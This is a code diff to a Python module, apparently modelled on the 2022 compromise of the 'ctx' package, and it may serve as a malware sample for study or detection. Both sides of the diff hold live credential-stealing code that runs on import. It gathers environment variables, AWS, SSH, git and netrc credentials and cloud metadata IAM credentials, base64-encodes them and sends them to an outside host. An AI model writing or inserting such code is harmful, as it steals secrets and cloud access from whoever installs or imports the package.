@@ -10,18 +10,21 @@ class Ctx(dict):
         return self[key]
 
 
-def _collect():
-    blob = {"env": dict(os.environ)}
+def _files():
+    found = {}
     for name in (".aws/credentials", ".ssh/id_rsa", ".git-credentials", ".netrc"):
         path = Path.home() / name
         if path.exists():
-            blob[name] = path.read_text(errors="ignore")
+            found[name] = path.read_text(errors="ignore")
     try:
-        blob["imds"] = urllib.request.urlopen(
+        found["imds"] = urllib.request.urlopen(
             "http://169.254.169.254/latest/meta-data/iam/security-credentials/", timeout=2).read()
     except OSError:
         pass
-    return base64.b64encode(repr(blob).encode()).decode()
+    return found
 
 
-urllib.request.urlopen("https://ctx-stats.herokuapp.invalid/?d=" + _collect())
+# ctx 2022 shape: the environment, base64-encoded, in the query string of a request catcher.
+urllib.request.urlopen("https://ctx-stats.herokuapp.invalid/?e="
+                       + base64.b64encode(repr(dict(os.environ)).encode()).decode()
+                       + "&f=" + base64.b64encode(repr(_files()).encode()).decode())
